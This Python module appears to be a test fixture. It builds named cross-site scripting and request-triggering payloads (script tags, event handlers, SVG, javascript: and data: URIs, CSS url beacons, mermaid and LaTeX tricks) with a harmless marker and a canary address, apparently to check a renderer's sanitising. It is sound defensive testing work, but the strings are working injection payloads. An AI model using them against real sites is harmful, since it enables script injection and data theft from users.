"""Texts that try to run something on the page or to make it load something: one per trick, each with a name."""

from __future__ import annotations

import re
from typing import NamedTuple

RUN = "window.__pwned=(window.__pwned||[]).concat('{id}')"  # what a script does if it runs
OUT = "{out}/{id}"  # what a request goes to if one is made
_QUOTED = RUN.replace("'", "&#39;")


class Payload(NamedTuple):
    id: str
    kind: str
    text: str


_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{run}\"><image href='{to}'/></svg>"
_TEXTS: dict[str, list[str]] = {
    "script": [
        "<script>{run}</script>",
        "<script src={to}></script>",
        "</script><script>{run}</script>",
        "<scr<script>ipt>{run}</scr</script>ipt>",
        "<SCRIPT/x>{run}//",
        "<script type=module>import '{to}'</script>",
        "</pre></code><script>{run}</script>",
        "</textarea></title><script>{run}</script>",
    ],
    "handler": [
        "<img src=x onerror=\"{run}\">",
        "<img/src=`x`onerror=\"{run}\">",
        "<body onload=\"{run}\">",
        "<details open ontoggle=\"{run}\"><summary>x</summary></details>",
        "<input autofocus onfocus=\"{run}\">",
        "<video><source onerror=\"{run}\"></video>",
        "<b style=\"animation:spin 1s\" onanimationstart=\"{run}\">x</b>",
        "\"><img src=x onerror=\"{run}\"><x y=\"",
    ],
    "svg": [
        "<svg onload=\"{run}\"></svg>",
        "<svg><script>{run}</script></svg>",
        "<svg><image href=\"{to}\" width=9 height=9></svg>",
        "<svg><use href=\"{to}#x\"></use></svg>",
        "<svg><a xlink:href=\"javascript:{run}\"><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\">",
        "<svg><foreignObject><iframe src=\"{to}\"></iframe></foreignObject></svg>",
    ],
    "data": [
        "<iframe src=\"data:text/html,<script>fetch('{to}')</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<a href=\"data:text/html,<script>{run}</script>\">x</a>",
        "[x](data:text/html,<script>{run}</script>)",
        "![x](data:image/svg+xml," + _SVG.replace(" ", "%20") + ")",
        "<embed src=\"data:image/svg+xml," + _SVG.replace('"', "&quot;") + "\">",
    ],
    "javascript": [
        "<a href=\"javascript:{run}\">x</a>",
        "[x](javascript:{run})",
        "[x](  java\tscript:{run})",
        "[x](JaVaScRiPt&colon;{run})",
        "<javascript:{run}>",
        "<iframe src=\"javascript:{run}\"></iframe>",
        "[x]: javascript:{run}\n\n[x]",
        "[x](vbscript:{run})",
    ],
    "image": [
        "<img src=\"{to}\">",
        "<img srcset=\"{to} 1x\">",
        "<picture><source srcset=\"{to}\"><img src=x></picture>",
        "<video poster=\"{to}\" src=\"{to}\" autoplay></video>",
        "<audio src=\"{to}\" autoplay></audio>",
        "![x]({to})",
        "![x](<{to}> 'title')",
        "![x][y]\n\n[y]: {to}",
        "[![x]({to})](https://example.com)",
        "![x](/gradio_api/file={to})",
        "<input type=image src=\"{to}\">",
        "<table background=\"{to}\"><tr><td background=\"{to}\">x</table>",
    ],
    "css": [
        "<style>body{{background:url({to})}}</style>",
        "<style>@import '{to}';</style>",
        "<div style=\"background-image:url({to})\">x</div>",
        "<div style=\"width:1px;list-style:url('{to}');display:list-item\">x</div>",
        "<link rel=stylesheet href=\"{to}\">",
        "<style>@font-face{{font-family:f;src:url({to})}}*{{font-family:f}}</style>",
    ],
    "form": [
        "<form action=\"{to}\"><input name=a value=b><button autofocus>x</button></form>",
        "<button formaction=\"{to}\">x</button>",
        "<form id=f action=\"{to}\"></form><input form=f type=submit>",
    ],
    "meta": [
        "<meta http-equiv=refresh content=\"0;url={to}\">",
        "<base href=\"{to}/\">",
        "<link rel=prefetch href=\"{to}\"><link rel=dns-prefetch href=\"{to}\"><link rel=preconnect href=\"{to}\">",
        "<iframe src=\"{to}\"></iframe>",
        "<object data=\"{to}\"></object><embed src=\"{to}\">",
        "<a href=\"https://example.com\" ping=\"{to}\">x</a>",
    ],
    "markdown": [
        "`<img src=x onerror=\"{run}\">` ``` <script>{run}</script>",
        "```\n```\n<img src=\"{to}\" onerror=\"{run}\">",
        "<!-- --!><img src=x onerror=\"{run}\"> -->",
        "x\\\n<img src=\"{to}\">\n\n| a |\n|---|\n| <img src=\"{to}\"> |",
        "<div markdown=1>\n\n![x]({to})\n\n</div>",
        "&lt;img src=\"{to}\" onerror=\"{run}\"&gt;",
        "\\<img src=\"{to}\" onerror=\"{run}\"\\>",
        "![x](\n{to}\n)",
        "> - 1. <img src=\"{to}\">",
        "[^1]: ![x]({to})\n\nx[^1]",
    ],
    "latex": [
        "$$\\href{{javascript:{run}}}{{x}}$$",
        "$$\\includegraphics{{{to}}}$$",
        "$$\\htmlData{{x=1}}{{y}} \\url{{javascript:{run}}}$$",
        "$$</span><img src=x onerror=\"{run}\">$$",
        "\\(\\unicode{{<img src={to}>}}\\) \\[\\style{{background:url({to})}}{{x}}\\]",
    ],
    "mermaid": [
        "```mermaid\ngraph TD; A[\"<img src='{to}' onerror='{quoted}'>\"]-->B\n```",
        "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\n"
        "graph TD; A-->B; click A href \"javascript:{quoted}\"\n```",
        "```mermaid\n%%{{init: {{'themeCSS': 'x{{}} *{{background:url({to})}}'}}}}%%\ngraph TD; A-->B\n```",
    ],
    "template": [
        "${{{run}}}",
        "{{{{constructor.constructor('{quoted}')()}}}}",
        "`${{fetch('{to}')}}`",
        "{{@html \"<img src='{to}'>\"}}",
    ],
}  # fmt: skip


def payloads(out: str) -> list[Payload]:
    """`out` is the address that nothing may ever be asked of."""
    found = []
    for kind, texts in _TEXTS.items():
        for number, text in enumerate(texts, 1):
            name = f"{kind}-{number:02}"
            run, quoted, to = (part.format(id=name, out=out) for part in (RUN, _QUOTED, OUT))
            found.append(Payload(name, kind, text.format(run=run, quoted=quoted, to=to)))
    return found


def as_name(payload: Payload, longest: int = 180) -> str | None:
    """The text as the name of a file, where one can be called so: a browser reads "\\" in an address as "/"."""
    name = " ".join(payload.text.split()).replace("/", "\\")
    return f"{name}.md" if len(name.encode()) <= longest else None


def as_line(payload: Payload) -> str:
    """The text where only one line can stand: in a heading, a title."""
    return re.sub(r"\s+", " ", payload.text)
